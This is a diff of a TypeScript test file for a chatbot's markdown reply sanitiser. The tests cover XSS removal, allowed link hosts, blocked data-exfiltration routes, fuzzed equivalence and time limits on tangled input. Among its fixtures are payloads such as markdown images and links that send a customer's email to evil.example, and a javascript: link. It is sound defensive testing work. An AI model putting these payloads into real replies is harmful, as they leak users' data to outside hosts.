@@ -1,10 +1,11 @@
-import { cleanReply, plainText, type LinkRules } from '@frontdesk/conversations/clean-reply'
+import { cleanMarkdown, cleanReply, plainText } from '@frontdesk/conversations/clean-reply'
+import type { LinkRules } from '@frontdesk/conversations/reply-links'
 import t from 'tap'
 import { xssVectors } from '../../../test/e2e/xss-vectors.ts'
 
 const links: LinkRules = {
   isAllowedHost: host => host === 'shop.example' || host.endsWith('.shop.example'),
-  urls: new Set(['https://post.example/track?parcel=1', 'https://post.example/prices']),
+  passages: [],
 }
 const clean = (markdown: string): string => cleanReply(markdown, links)
 
@@ -13,7 +14,7 @@ const tag =
   /^<(?:\/?(?:p|b|strong|i|em|ul|ol|li|code|pre|blockquote|h3|h4|table|thead|tbody|tr|th|td|del)|\/a|(?:br|hr) ?\/?|a href="(?:https?:\/\/|mailto:|tel:)[^"<>\s]*")>$/
 const illegalTags = (html: string): string[] => (html.match(/<[^>]*>?/g) ?? []).filter(found => !tag.test(found))
 
-t.test('of whatever acts or fetches, nothing is left', async t => {
+t.test('I22, row 13: of whatever acts or fetches, nothing is left', async t => {
   t.ok(xssVectors.length >= 58)
   const more = [
     '[press](javascript:window.__xss=1)',
@@ -40,39 +41,7 @@ t.test('of whatever acts or fetches, nothing is left', async t => {
   }
 })
 
-t.test('a link survives only to the chatbot’s own hosts, or word for word from a passage', async t => {
-  for (const href of [
-    'https://shop.example/returns?x=1#how',
-    'http://www.shop.example:8080/',
-    'https://post.example/prices',
-    'https://post.example/track?parcel=1',
-    'mailto:help@shop.example',
-    'tel:+35621234567',
-  ]) {
-    t.match(clean(`See [here](${href}).`), `<p>See <a href="${href}">here</a>.</p>`)
-  }
-  for (const href of [
-    'https://evil.example/p?d=anna',
-    'https://post.example/track?parcel=2',
-    'https://post.example/prices/anna@shop.example',
-    'https://shop.example.evil.example/',
-    'https://evilshop.example/',
-    'https://anna:secret@shop.example/',
-    'https://anna@shop.example/',
-    'ftp://shop.example/file',
-    '//shop.example/x',
-    '/returns',
-    'returns',
-    '#top',
-    'mailto:help@shop.example?body=anna',
-    'https://[broken',
-    '',
-  ]) {
-    t.equal(clean(`See [here](<${href}>).`), '<p>See here.</p>', href)
-  }
-})
-
-t.test('data leaves by none of seven doors', async t => {
+t.test('I22, row 14: data leaves by none of seven doors', async t => {
   const doors = {
     'inline image': '![x](https://evil.example/p?d=anna@shop.example)',
     'reference image and link': '![x][1] [go][1]\n\n[1]: https://evil.example/p?d=anna@shop.example',
@@ -127,4 +96,57 @@ t.test('the words of a reply are what a reader would say aloud', async t => {
   t.equal(words('&amp;lt;'), '&lt;', 'an entity is decoded once')
   t.equal(words('[here](https://shop.example/)'), 'here')
   t.equal(words('<img src=x>'), '')
+})
+
+/** Small numbers that look random and are the same in every run. */
+function dice(seed: number): (sides: number) => number {
+  let state = seed
+  return sides => {
+    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
+    return Math.floor((state / 2 ** 32) * sides)
+  }
+}
+
+t.test('plain sentences give the same bytes by the short way as by the long one', async t => {
+  const roll = dice(42)
+  const split = (text: string): string[] => text.split('¦')
+  const plain = split(
+    'a¦Z¦9¦é¦ß¦日¦ی¦€¦ ¦.¦,¦;¦:¦?¦!¦\'¦"¦(¦)¦%¦/¦$¦–¦—¦…¦“¦”¦„¦‘¦’¦«¦»¦-¦\n¦e\u0301¦😀¦👩\u200d👧¦ ¦\n\n¦www¦1.¦12)¦http¦24/7',
+  )
+  const rare = split(
+    '*¦_¦`¦~¦[¦]¦<¦>¦&¦#¦|¦\\¦@¦+¦=¦{¦}¦\t¦\r¦\u00a0¦\u2028¦\u00ad¦//¦www.¦- ¦> ¦&amp;¦&#39;¦<b>¦    ¦\n\n\n',
+  )
+  const piece = (): string => (roll(40) === 0 ? rare[roll(rare.length)] : plain[roll(plain.length)]) ?? ''
+  // A tag that paragraphs never hold makes it take the long way.
+  const longWords = (html: string): string => plainText(`${html}<i></i>`)
+  for (let round = 0; round < 20_000; round += 1) {
+    const text = Array.from({ length: 1 + roll(24) }, piece).join('')
+    const [short, expected] = [clean(text), cleanMarkdown(text.trim(), links)]
+    if (short !== expected) t.equal(short, expected, JSON.stringify(text))
+    if (plainText(short) !== longWords(short)) t.equal(plainText(short), longWords(short), JSON.stringify(short))
+    const said = text.replaceAll('<', '')
+    if (plainText(said) !== longWords(said)) t.equal(plainText(said), longWords(said), JSON.stringify(said))
+  }
+  t.equal(
+    clean('It’s open: 10–17, "daily"\nor so.\n\nYes (24/7).'),
+    '<p>It’s open: 10–17, "daily"<br />or so.</p>\n<p>Yes (24/7).</p>',
+  )
+})
+
+t.test('I29, row 83: no reply, however tangled, keeps the worker from others', async t => {
+  const tangles =
+    '[¦![¦[a](<¦*a **b¦_a __b¦~~a ~b¦`¦``a¦<¦<a ¦<!--¦<?¦<b>¦</b>¦> ¦>¦- ¦1. ¦--\n¦-\n¦=\n¦|a|\n|-|\n¦[a]: b\n¦[a]\n¦\\¦&¦a@b.¦a.¦ ¦\n¦ \n¦(¦"a '
+  const longest = 6_400
+  for (const tangle of tangles.split('¦')) {
+    for (const text of [tangle.repeat(longest / tangle.length), `a${tangle.repeat(longest / tangle.length)}x`]) {
+      const used = process.cpuUsage()
+      plainText(clean(text))
+      const { user, system } = process.cpuUsage(used)
+      // 50 ms where nobody else runs; the rest is for collecting garbage and for measuring coverage.
+      t.ok((user + system) / 1_000 < 200, `${JSON.stringify(text.slice(0, 12))}: ${(user + system) / 1_000} ms`)
+    }
+  }
+  t.equal(clean(`${'> '.repeat(3_000)}deep`).slice(0, 17), '<p>&gt; &gt; &gt;', 'what nobody can follow stays as it is')
+  t.equal(clean(`${'*a **b '.repeat(400)}<b>`).slice(0, 14), '<p>*a **b *a *', 'and so do a thousand stars')
+  t.match(clean(`${'> '.repeat(12)}wise`), /<blockquote>\n<p>wise/)
 })
